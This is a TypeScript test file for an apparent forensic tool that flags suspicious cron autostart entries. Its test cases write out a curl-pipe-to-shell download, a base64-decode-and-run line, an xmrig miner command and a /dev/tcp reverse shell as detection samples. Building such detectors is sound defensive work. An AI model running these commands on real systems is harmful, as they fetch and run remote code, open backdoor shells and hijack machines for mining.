import { describe, expect, it } from 'vitest';
import { type Files, machineOf, today } from '../../../../tests/machine-tree.ts';
import type { Autostart } from '../../../model/machine-payloads.ts';
import type { Told } from '../../../model/machine-units.ts';
import { Autostarts, type Entry } from './entry.ts';

const lastYear = Date.UTC(2025, 0, 1);

function tell(entry: Partial<Entry>, files: Files = {}, form: 'disk' | 'collection' = 'disk'): Told<'autostart'>[] {
  const machine = machineOf({ '/etc/cron.d/x': { content: 'x', modified: lastYear }, ...files }, { state: { form } });
  const autostarts = new Autostarts(machine);
  return [...autostarts.tell({ mechanism: 'cron', place: '/etc/cron.d/x', ...entry }), ...autostarts.end('entries')];
}

function value(told: readonly Told<'autostart'>[]): Autostart {
  const [first] = told;
  if (!first || !('kind' in first)) throw new Error('no sighting');
  return first.value;
}

describe('an autostart entry', () => {
  it('is told aside where nothing is telling, with its programs, owner, time and hash', () => {
    const told = tell(
      { entry: ' 5 * * * * root /usr/local/bin/b ', starts: '/usr/local/bin/b', user: 'root', line: 2 },
      { '/usr/local/bin/b': '#!/bin/sh\n' },
    );
    expect(told).toMatchObject([
      { kind: 'autostart', aside: true, path: '/etc/cron.d/x', line: 2 },
      { examine: '/etc/cron.d/x' },
      { examine: '/usr/local/bin/b' },
      { looked: { at: 'entries', count: 1 } },
    ]);
    expect(value(told)).toMatchObject({
      programs: ['/usr/local/bin/b'],
      owner: 'root',
      modified: '2025-01-01T00:00:00.000Z',
      carries: 'command',
      // printf '5 * * * * root /usr/local/bin/b' | sha256sum
      hash: '86233381221029bc580e78ab184dec3e47cf43ecaeb8fb3cdbd8d764b6db627e',
    });
  });

  it.each<[string, Partial<Entry>, Autostart['why'][number]]>([
    ['a miner', { starts: '/opt/xmrig -o pool.example.com:3333 -u x' }, 'mines'],
    ['a miner by its name', { starts: '/opt/m/xmrig' }, 'mines'],
    ['something fetched', { starts: 'curl -fsSL http://203.0.113.7/a.sh | sh' }, 'fetches-and-runs'],
    ['something decoded', { starts: 'echo aGVsbG8gd29ybGQ= | base64 -d | sh' }, 'decodes'],
    ['a program in /tmp', { starts: 'sh -c "/var/tmp/x -q"' }, 'from-temporary-folder'],
    ['a program in a hidden folder', { starts: '/root/.configrc/a/upd' }, 'from-hidden-folder'],
    ['a shell for others', { starts: 'bash -i >& /dev/tcp/192.0.2.1/443 0>&1' }, 'lets-in'],
    ['a kernel thread with a file', { starts: '/usr/bin/kworkerds' }, 'poses-as-system'],
  ])('is told openly where it starts %s', (_, entry, reason) => {
    const told = tell(entry);
    expect(value(told).why).toContain(reason);
    expect(told[0]).not.toHaveProperty('aside');
  });

  it('says what only colours it, and stays aside', () => {
    const told = tell({ starts: '/opt/gone' }, { '/etc/cron.d/x': { content: 'x', modified: today, mode: 0o666 } });
    expect(value(told).why).toEqual(['program-missing', 'recent', 'writable-by-others']);
    expect(told[0]).toHaveProperty('aside', true);
  });

  it('calls nothing missing of what was only collected', () => {
    expect(value(tell({ starts: '/opt/gone' }, {}, 'collection')).why).toEqual([]);
  });

  it('of copies is recent where the collector wrote down when the machine changed it', () => {
    const file = { '/etc/cron.d/x': { content: 'x', modified: lastYear, changed: today } };
    expect(value(tell({ starts: '/opt/gone' }, file, 'collection')).why).toEqual(['recent']);
  });

  it('knows what packages brought', () => {
    const dpkg: Files = {
      '/var/lib/dpkg/status':
        'Package: x\nStatus: install ok installed\nVersion: 1\nArchitecture: all\nConffiles:\n /etc/cron.d/x 9dd4e461268c8034f5c8564e155c67a6\n\n',
      '/var/lib/dpkg/info/x.list': '/.\n/etc\n/etc/cron.d\n/etc/cron.d/x\n/usr/bin/job\n',
      '/usr/bin/job': 'job',
      '/opt/own': 'own',
    };
    const told = tell({ starts: '/usr/bin/job; /opt/own' }, dpkg);
    expect(value(told)).toMatchObject({ packaged: 'yes', why: [] });
    expect(told.filter((one) => 'examine' in one)).toEqual([{ examine: '/opt/own' }]);
    const other = tell(
      { place: '/etc/cron.d/y', starts: '/usr/bin/job' },
      { ...dpkg, '/etc/cron.d/y': { content: 'y', modified: lastYear } },
    );
    expect(value(other)).toMatchObject({ packaged: 'no', why: ['not-packaged'] });
  });

  it('is cut where it is long, and entries beyond the bound are a gap', () => {
    expect(value(tell({ entry: 'x'.repeat(9000) })).entry).toHaveLength(2048);
    const autostarts = new Autostarts(machineOf({ '/x': '' }));
    const entry = { mechanism: 'cron', place: '/x' } as const;
    const told = Array.from({ length: 5001 }, () => Array.from(autostarts.tell(entry)).length);
    expect([told.at(-2), told.at(-1)]).toEqual([1, 0]);
    expect([...autostarts.tell({ ...entry, starts: '/tmp/x' })]).toHaveLength(1);
    expect([...autostarts.end('entries', '/etc')]).toEqual([
      { looked: { at: 'entries', count: 5002 } },
      { gap: { code: 'limit-count', what: '2 more entries are told only where they are telling', path: '/etc' } },
    ]);
  });
});
